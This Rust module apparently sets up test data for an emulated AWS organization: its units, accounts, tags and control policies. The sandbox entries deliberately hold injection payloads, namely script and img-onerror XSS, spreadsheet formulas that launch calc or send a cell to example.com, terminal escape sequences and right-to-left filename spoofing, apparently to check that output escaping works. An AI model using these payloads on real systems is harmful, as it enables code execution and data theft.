//! The organization "acme": its tree, its accounts and what hangs on them.
//!
//! ```text
//!  Root ── Security
//!       ├─ Infrastructure ── Network
//!       ├─ Workloads ── Production ── Payments ── PCI
//!       │            │             └─ Data
//!       │            └─ Development
//!       ├─ Sandbox (a hostile name)
//!       ├─ Acquired ── Integration (empty)
//!       └─ Suspended
//! ```

use super::document::Document;

/// The key of the management account.
pub(super) const MANAGEMENT: &str = "management";
/// The key of the account whose role nobody may assume.
pub const DENIED: &str = "legacy-acquired";
/// The key of the account where an SCP denies the reading of credentials, and the list of secrets.
pub const PARTIAL: &str = "payments-prod";
/// The key of the account that is suspended.
pub const SUSPENDED: &str = "old-shop";
/// The key of the root of the tree, where policies and accounts can hang as on a unit.
pub(super) const ROOT: &str = "root";

/// The name of the management account, which the emulator does not let choose.
pub(super) const MANAGEMENT_NAME: &str = "acme-management";
/// The address of the management account's root user.
pub(super) const MANAGEMENT_EMAIL: &str = "aws+management@example.com";

/// An organizational unit.
#[derive(Debug, Clone, Copy)]
pub(super) struct Unit {
    /// How the tables name it.
    pub(super) key: &'static str,
    /// The key of its parent, which stands above it in the table.
    pub(super) parent: &'static str,
    /// Its name.
    pub(super) name: &'static str,
}

const fn unit(key: &'static str, parent: &'static str, name: &'static str) -> Unit {
    Unit { key, parent, name }
}

pub(super) const UNITS: &[Unit] = &[
    unit("security", ROOT, "Security"),
    unit("infrastructure", ROOT, "Infrastructure"),
    unit("network", "infrastructure", "Network"),
    unit("workloads", ROOT, "Workloads"),
    unit("production", "workloads", "Production"),
    unit("payments", "production", "Payments"),
    unit("pci", "payments", "PCI"),
    unit("data", "production", "Data"),
    unit("development", "workloads", "Development"),
    unit("sandbox", ROOT, "Sandbox 🧪 \u{202e}txt.exe\u{202c} <script>alert('ou')</script>"),
    unit("acquired", ROOT, "Acquired (=1+1)"),
    unit("integration", "acquired", "Integration"),
    unit("suspended", ROOT, "Suspended"),
];

/// A member account.
#[derive(Debug, Clone, Copy)]
pub(super) struct Account {
    /// How the tables name it.
    pub(super) key: &'static str,
    /// Its name.
    pub(super) name: &'static str,
    /// The key of the unit it is in.
    pub(super) unit: &'static str,
    /// Its tags.
    pub(super) tags: &'static [(&'static str, &'static str)],
}

const fn account(
    key: &'static str,
    unit: &'static str,
    tags: &'static [(&'static str, &'static str)],
) -> Account {
    Account { key, name: key, unit, tags }
}

impl Account {
    const fn named(mut self, name: &'static str) -> Self {
        self.name = name;
        self
    }
}

pub(super) const ACCOUNTS: &[Account] = &[
    account("security-tooling", "security", &[("environment", "prod"), ("owner", "security")]),
    account("log-archive", "security", &[("environment", "prod"), ("retention", "7 years")]),
    account("network-hub", "network", &[("environment", "prod"), ("owner", "network")]),
    account("ci-platform", "infrastructure", &[("environment", "prod"), ("owner", "platform")]),
    account(
        PARTIAL,
        "pci",
        &[("environment", "prod"), ("data", "cardholder"), ("cost-center", "4711")],
    ),
    account("web-prod", "production", &[("environment", "prod"), ("owner", "web")]),
    account("data-lake", "data", &[("environment", "prod"), ("data", "personal"), ("owner", "")]),
    account("payments-dev", "development", &[("environment", "dev"), ("cost-center", "4711")]),
    account("web-dev", "development", &[("environment", "dev")]),
    account(
        "sandbox",
        "sandbox",
        &[
            ("owner", "=HYPERLINK(\"https://example.com/?x=\"&A1,\"click\")"),
            ("note", "\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7} \u{202e}gpj.exe"),
            ("<b>key</b>", "\"><img src=x onerror=alert(1)>"),
            ("emoji", "👩‍🔬 e\u{301}"),
        ],
    )
    .named("sandbox <img src=x onerror=alert(1)>"),
    account(DENIED, "acquired", &[]).named("=cmd|'/C calc'!A0 legacy-acquired"),
    account(SUSPENDED, "suspended", &[("closed", "yes")]),
];

/// A service control policy or resource control policy.
#[derive(Debug, Clone, Copy)]
pub(super) struct ControlPolicy {
    /// Its name.
    pub(super) name: &'static str,
    /// What people wrote about it.
    pub(super) description: &'static str,
    /// Whether it controls principals or resources.
    pub(super) kind: ControlKind,
    /// Its document.
    pub(super) document: Document,
    /// The keys of the units and accounts it hangs on.
    pub(super) targets: &'static [&'static str],
}

/// What a control policy controls.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum ControlKind {
    /// Principals: an SCP.
    Service,
    /// Resources: an RCP.
    Resource,
}

const fn scp(
    name: &'static str,
    description: &'static str,
    document: Document,
    targets: &'static [&'static str],
) -> ControlPolicy {
    ControlPolicy { name, description, kind: ControlKind::Service, document, targets }
}

/// What the SCP on the partial account denies; the proxy refuses these calls there.
pub(super) const HIDDEN_ACTIONS: &[&str] = &[
    "iam:GenerateCredentialReport",
    "iam:GetCredentialReport",
    "iam:GetLoginProfile",
    "secretsmanager:ListSecrets",
];

/// Leaves the services out that have no region.
const EUROPE: Document = Document::Text(
    r#"{
  "Version": "2012-10-17",
  "Statement": [
    {
      "Effect": "Deny",
      "NotAction": ["iam:*", "organizations:*", "route53:*", "sts:*", "support:*"],
      "Resource": "*",
      "Condition": {"StringNotEquals": {"aws:RequestedRegion": ["eu-west-1", "eu-central-1", "us-east-1"]}}
    }
  ]
}"#,
);

/// Two statements.
const GUARDRAILS: Document = Document::Text(
    r#"{
  "Version": "2012-10-17",
  "Statement": [
    {
      "Sid": "NoBigMachines",
      "Effect": "Deny",
      "Action": "ec2:RunInstances",
      "Resource": "arn:aws:ec2:*:*:instance/*",
      "Condition": {"StringNotLike": {"ec2:InstanceType": ["t3.*", "t4g.*"]}}
    },
    {
      "Sid": "RootDoesNothing",
      "Effect": "Deny",
      "Action": "*",
      "Resource": "*",
      "Condition": {"ArnLike": {"aws:PrincipalArn": "arn:aws:iam::*:root"}}
    }
  ]
}"#,
);

/// Reads the organization from the resource.
const OWN_ORGANIZATION: Document = Document::Text(
    r#"{
  "Version": "2012-10-17",
  "Statement": [
    {
      "Effect": "Deny",
      "Principal": "*",
      "Action": ["s3:*", "sqs:*", "kms:Decrypt"],
      "Resource": "*",
      "Condition": {"StringNotEqualsIfExists": {"aws:PrincipalOrgID": "${aws:ResourceOrgID}"}, "BoolIfExists": {"aws:PrincipalIsAWSService": "false"}}
    }
  ]
}"#,
);

pub(super) const CONTROL_POLICIES: &[ControlPolicy] = &[
    scp(
        "deny-leaving",
        "Nobody leaves the organization",
        Document::Deny(&["organizations:LeaveOrganization"], "*"),
        &[ROOT],
    ),
    scp(
        "european-regions-only",
        "Workloads stay in Europe, and where global services live",
        EUROPE,
        &["workloads", "sandbox"],
    ),
    scp(
        "no-iam-users-in-production",
        "People come through Identity Center",
        Document::Deny(&["iam:CreateUser", "iam:CreateAccessKey"], "*"),
        &["production"],
    ),
    scp(
        "pci-hides-credentials",
        "Auditors of the card scheme asked for it",
        Document::Deny(HIDDEN_ACTIONS, "*"),
        &[PARTIAL],
    ),
    scp(
        "logs-are-for-ever",
        "Nobody deletes logs",
        Document::Deny(
            &["s3:DeleteObject", "s3:DeleteBucket", "s3:PutLifecycleConfiguration"],
            "arn:aws:s3:::acme-logs*",
        ),
        &["log-archive"],
    ),
    scp(
        "sandbox \u{1b}[5mguardrails\u{1b}[0m <i>v2</i>",
        "=1+1 \u{202e}elbisreveR\u{202c}",
        GUARDRAILS,
        &["sandbox"],
    ),
    scp("draft-deny-all", "Not attached anywhere", Document::Deny(&["*"], "*"), &[]),
    ControlPolicy {
        name: "only-our-organization",
        description: "Data stays with principals of the organization",
        kind: ControlKind::Resource,
        document: OWN_ORGANIZATION,
        targets: &["production"],
    },
];

/// Services with trusted access.
pub(super) const TRUSTED_SERVICES: &[&str] = &[
    "access-analyzer.amazonaws.com",
    "cloudtrail.amazonaws.com",
    "config.amazonaws.com",
    "guardduty.amazonaws.com",
    "member.org.stacksets.cloudformation.amazonaws.com",
    "ram.amazonaws.com",
    "securityhub.amazonaws.com",
    "sso.amazonaws.com",
];

/// A service that an account administers for the organization.
#[derive(Debug, Clone, Copy)]
pub(super) struct Delegation {
    /// The key of the account.
    pub(super) account: &'static str,
    /// The service.
    pub(super) service: &'static str,
    /// Whether the emulator knows that the service can be delegated; otherwise the plan says it.
    pub(super) emulated: bool,
}

const fn delegation(account: &'static str, service: &'static str, emulated: bool) -> Delegation {
    Delegation { account, service, emulated }
}

pub(super) const DELEGATIONS: &[Delegation] = &[
    delegation("security-tooling", "access-analyzer.amazonaws.com", true),
    delegation("security-tooling", "guardduty.amazonaws.com", true),
    delegation("security-tooling", "securityhub.amazonaws.com", false),
    delegation("security-tooling", "sso.amazonaws.com", false),
    delegation("log-archive", "config-multiaccountsetup.amazonaws.com", true),
    delegation("ci-platform", "ssm.amazonaws.com", true),
];
